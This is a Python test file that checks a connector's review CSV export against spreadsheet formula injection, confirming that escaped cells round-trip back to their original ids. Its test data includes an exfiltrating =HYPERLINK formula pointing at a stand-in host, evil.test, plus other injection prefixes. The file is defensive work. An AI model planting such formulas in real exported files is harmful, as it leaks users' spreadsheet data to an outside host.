"""The review CSV is formula-safe (a name such as ``=HYPERLINK(...)`` or ``-Acme`` is text to a
spreadsheet) and still round-trips: ``match apply`` reads back exactly the ids export wrote."""

from __future__ import annotations

import csv
import io

import pytest
from match_kit import Tenant

from ml_connector.csvcells import safe_cell
from ml_connector.matching import review
from ml_connector.matching.model import Entity
from ml_connector.matching.run import apply_review, export_rows
from ml_connector.store.repos.matches import ACCEPTED, PROPOSED, NewProposal

HYPERLINK = '=HYPERLINK("http://evil.test/?"&A1,"click")'
HOSTILE = [HYPERLINK, "-Acme", "+1 555", "@SUM(A1)", "\tTabbed", "\rReturn", "'=quoted", "''-x"]


@pytest.mark.parametrize("value", [*HOSTILE, "Acme", "", "-120.00", "'plain", "12"])
def test_guard_is_safe_cell_and_unguard_undoes_it_exactly(value: str) -> None:
    cell = review.guard(value)
    assert review.unguard(cell) == value
    if not value.startswith("'"):
        assert cell == safe_cell(value)  # the same rule as every other CSV the connector writes
    assert not cell.startswith(("=", "+", "@", "\t", "\r"))
    assert not cell.startswith("-") or cell == "-120.00"


def _new(source_id: str, label: str, target_id: str, target_label: str) -> NewProposal:
    candidates = [
        {"target_id": target_id, "target_label": target_label, "score": 0.9, "kind": "similar"},
        {"target_id": "-T7", "target_label": "@other", "score": 0.8, "kind": "similar"},
    ]
    return NewProposal(
        connection="default",
        entity=Entity.ITEMS.value,
        source_system="fusion",
        source_id=source_id,
        source_label=label,
        target_system="servicetitan",
        target_id=target_id,
        target_label=target_label,
        score=0.9,
        kind="similar",
        ambiguous=False,
        why_ambiguous=None,
        evidence={"agreed": ["name"], "differed": [], "missing": []},
        candidates=candidates,
    )


async def test_hostile_names_and_ids_export_as_text_and_apply_back(tenant: Tenant) -> None:
    t = tenant
    async with t.store.transaction() as tx:
        await tx.matches.save(_new("=ITEM-1", HYPERLINK, "-T5", "-Acme"))
        await tx.matches.save(_new("-ACME-2", "-Acme", "=6", "+Acme supply"))
        await tx.matches.save(_new("@ITEM-3", "'=quoted", "'=7", "Plain"))
    chunks = [c async for c in export_rows(t.store, "default", Entity.ITEMS, (PROPOSED,))]
    text = "".join(chunks)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["source_name"] for r in rows] == [f"'{HYPERLINK}", "'-Acme", "''=quoted"]
    assert [r["source_id"] for r in rows] == ["'=ITEM-1", "'-ACME-2", "'@ITEM-3"]
    assert [r["target_id"] for r in rows] == ["'-T5", "'=6", "''=7"]
    assert rows[0]["target_name"] == "'-Acme"
    for row in rows:  # no cell a spreadsheet would run
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    # a person accepts the first as proposed, the second with the other candidate, the third
    # by typing its target id back in the guarded form export wrote
    rows[0]["decision"] = "accept"
    rows[1]["decision"] = "accept"
    rows[1]["target_id"] = "'-T7"
    rows[2]["decision"] = "accept"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=review.COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    result = await apply_review(t.ctx(), out.getvalue(), by="dana")
    assert (result.accepted, result.applied, result.apply_errors) == (3, 3, [])
    async with t.store.transaction() as tx:
        links = {
            s: (await tx.links.get("default", "item", s)) for s in ("=ITEM-1", "-ACME-2", "@ITEM-3")
        }
        decided = await tx.matches.for_source("default", "item", "-ACME-2")
    assert {s: link.target_id for s, link in links.items() if link is not None} == {
        "=ITEM-1": "-T5",
        "-ACME-2": "-T7",
        "@ITEM-3": "'=7",
    }
    assert decided is not None
    assert (decided.state, decided.decided_by) == (ACCEPTED, "dana")


def test_guarded_and_raw_cells_both_read_as_the_id() -> None:
    """A guarded cell reads as the raw id; a raw one (a spreadsheet that dropped the ``'`` on
    saving) stays as it is."""
    parsed = review.parse(
        "proposal_id,entity,source_id,target_id,decision\n1,item,-ACME-2,'-T5,accept\n"
    )
    assert parsed == [
        (
            2,
            {
                "proposal_id": "1",
                "entity": "item",
                "source_id": "-ACME-2",
                "target_id": "-T5",
                "decision": "accept",
            },
        )
    ]
